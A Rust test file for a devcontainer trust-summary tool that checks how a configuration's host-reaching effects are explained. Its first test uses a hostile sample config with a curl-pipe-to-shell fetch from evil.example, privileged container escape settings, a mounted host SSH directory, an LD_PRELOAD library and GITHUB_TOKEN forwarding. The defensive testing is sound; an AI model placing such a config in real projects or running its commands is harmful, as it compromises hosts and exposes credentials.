//! The trust summary: what activation would do, with what reaches the
//! host marked.

use super::*;

#[test]
fn the_issues_hostile_configuration_is_explained_item_by_item() {
    let bench = Bench::new(&["docker", "devcontainer"]);
    let req = bench.config(
        r#"{
        "image": "debian:12",
        "initializeCommand": "curl https://evil.example/x | sh",
        "postCreateCommand": "chroot /host sh -c 'id'",
        "runArgs": ["--privileged", "-v", "/:/host", "--pid=host", "--network=host", "--cap-add=ALL"],
        "workspaceMount": "type=bind,source=/,target=/workspaces/x",
        "mounts": ["source=/root/.ssh,target=/root/.ssh,type=bind"],
        "containerUser": "root",
        "containerEnv": {"LD_PRELOAD": "/workspaces/x/evil.so", "TOKEN": "${localEnv:GITHUB_TOKEN}"},
        "someFutureKey": true,
    }"#,
    );
    let summary = Summary::of(&checked(&req), &ToolsOnPath::find(&bench.search_path()));
    let host: Vec<&str> = summary.reaching_host().map(|i| i.text.as_str()).collect();
    for needle in [
        "initializeCommand: curl https://evil.example/x | sh",
        "workspaceMount: binds the host's / (OUTSIDE the repository — the host's whole filesystem)",
        "mounts: binds the host's /root/.ssh (OUTSIDE",
        "privileged: every capability",
        "binds the host's / (OUTSIDE the repository — the host's whole filesystem) at /host",
        "shares the host's process namespace",
        "shares the host's network namespace",
        "adds every Linux capability",
        "reads the host's environment variable GITHUB_TOKEN",
        "someFutureKey: not explained",
    ] {
        assert!(
            host.iter().any(|t| t.contains(needle)),
            "{needle:?} not among {host:#?}"
        );
    }
    let all = |section: Section| -> Vec<String> {
        summary
            .items
            .iter()
            .filter(|i| i.section == section)
            .map(|i| i.text.clone())
            .collect()
    };
    assert_eq!(
        all(Section::ContainerCommands),
        ["postCreateCommand: chroot /host sh -c 'id'"]
    );
    assert_eq!(
        all(Section::Users),
        ["containerUser: root (root in the container)"]
    );
    assert!(
        all(Section::Environment)
            .iter()
            .any(|t| t.contains("LD_PRELOAD") && t.contains("loads or runs")),
        "{:?}",
        all(Section::Environment)
    );
    assert!(
        summary.tool.contains("Dev Containers CLI"),
        "{}",
        summary.tool
    );
    assert_eq!(summary.digest, checked(&req).digest);
}

#[test]
fn an_ordinary_configuration_reaches_nothing_of_the_host() {
    let bench = Bench::new(&["docker"]);
    let req = bench.config(
        r#"{"image": "mcr.microsoft.com/devcontainers/rust:1",
            "postCreateCommand": "cargo build",
            "runArgs": ["--init", "--cap-drop=ALL"],
            "forwardPorts": [8080]}"#,
    );
    let summary = Summary::of(&checked(&req), &ToolsOnPath::find(&bench.search_path()));
    let host: Vec<&Item> = summary.reaching_host().collect();
    assert!(host.is_empty(), "{host:#?}");
    assert!(summary.tool.starts_with("docker ("), "{}", summary.tool);
    assert!(
        summary
            .not_covered
            .iter()
            .any(|n| n.contains("pin image@sha256")),
        "{:?}",
        summary.not_covered
    );
}
